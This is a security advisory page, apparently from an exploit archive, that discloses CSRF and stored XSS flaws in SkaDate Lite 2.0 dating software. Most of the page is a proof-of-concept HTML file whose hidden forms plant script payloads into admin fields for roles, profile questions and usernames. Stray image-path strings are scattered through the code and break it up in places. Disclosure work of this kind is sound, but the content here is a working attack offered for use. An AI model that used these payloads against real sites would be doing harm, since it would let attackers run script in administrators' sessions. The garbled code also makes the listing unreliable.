SkaDate Lite 2.0 CSRF / Cross Site Scripting

Risk: Low
Local: No
Remote: Yes

<!-- SkaDate Lite 2.0 Multiple XSRF And Persistent XSS Vulnerabilities Vendor: Skalfa LLC Product web page: | Affected version: 2.0 (build 7651) [Platform version: 1.7.0 (build 7906)] Summary: SkaDate Lite is a new platform that makes it easy to start online dating business in just a few easy steps. No programming or design knowledge is required. Install the solution, pick a template, and start driving traffic to your new online dating site. Desc: SkaDate Lite version 2.0 suffers from multiple cross-site request forgery and stored xss vulnerabilities. The application allows users to perform certain actions via HTTP requests without performing any validity checks to verify the requests. This can be exploited to perform certain actions with administrative privileges if a logged-in user visits a malicious web site. Input passed to several POST parameters is not properly sanitised before being returned to the user. This can be exploited to execute arbitrary HTML and script code in a user's browser session in context of an affected site. Tested on: CentOS Linux 6.5 (Final) nginx/1.6.0 PHP/5.3.28 MySQL 5.5.37 Vulnerabilities discovered by Gjoko 'LiquidWorm' Krstic @zeroscience Advisory ID: ZSL-2014-5197 Advisory URL: 23.07.2014 --> <html> <title>SkaDate Lite 2.0 Multiple XSRF And Persistent XSS Vulnerabilities</title> <body> <form action="" method="POST"> <input type="hidden" name="form_name" value="add-role" /> <input type="hidden" name="label" value='"><script>alert(1);</script>' /> <input type="hidden" name="submit" value="Add" /> <input type="submit" value="Execute #1" /> </form> <form action="" method="POST"> <input type="hidden" name="form_name"value="account_type_49693e2b1cb50cad5c42b18a9103f146dcce2ec6" /> <input type="hidden" name="command" value="AddAccountType" /> <input type="hidden" name="key" value="questions_account_type_5615100a931845eca8da20cfdf7327e0" /> <input type="hidden" name="prefix" value="base" /> <input type="hidden" name="accountTypeName" value="5615100a931845eca8da20cfdf7327e0" /> <input type="hidden" name="lang[1][base][questions_account_type_5615100a931845eca8da20cfdf7327e0]" value='"><script>alert(2);</script>' /> <input type="hidden" name="role" value="12" /> <input type="submit" value="Execute #2" /> </form> <form action="" method="POST"> <input type="hidden" name="form_name" value="qst_add_form" /> <input type="hidden" name="qst_name" value='"><script>alert(3);</script>' /> <input type="hidden" name="qst_description" value="ZSL" /> <input type="hidden" name="qst_account_type[0]" value="290365aadde35a97f11207ca7e4279cc" /> <input type="hidden" name="qst_section" value="f90cde5913235d172603cc4e7b9726e3" /> <input type="hidden" name="qst_answer_type" value="text" /> <input type="hidden" name="qst_possible_values" value="%5B%5D" /> <input type="hidden" name="year_range[to]" value="1996" /> <input type="hidden" name="year_range[from]" value="1930" /> <input type="hidden" name="qst_column_count" value="1" /> <input type="hidden" name="qst_required" value="" /> <input type="hidden" name="qst_on_sign_up" value="" /> <input type="hidden" name="qst_on_edit" value="" /> <input type="hidden" name="qst_on_view" value="" /> <input type="hidden" name="qst_on_search" value="" /> <inputtype="hidden" name="valuesStorage" value="%7B%7D" /><input type="hidden" name="command" value="addQuestion" /> <input type="submit" value="Execute #3" /> </form> <form action="" method="POST"> <input type="hidden"name="form_name" value='restrictedUsernamesForm"><script>alert(4);</script>'/> <input type="hidden" name="restrictedUsername"value='"><script>alert(5);</script>' /> <input type="hidden" name="addUsername" value="Add" /> <input type="submit"value="Execute #4 & #5" /> </form> </body> </html>


Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment ithere.

(*) - required fields.
{{ x.nick }} | Date: {{x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2022,


Back to Top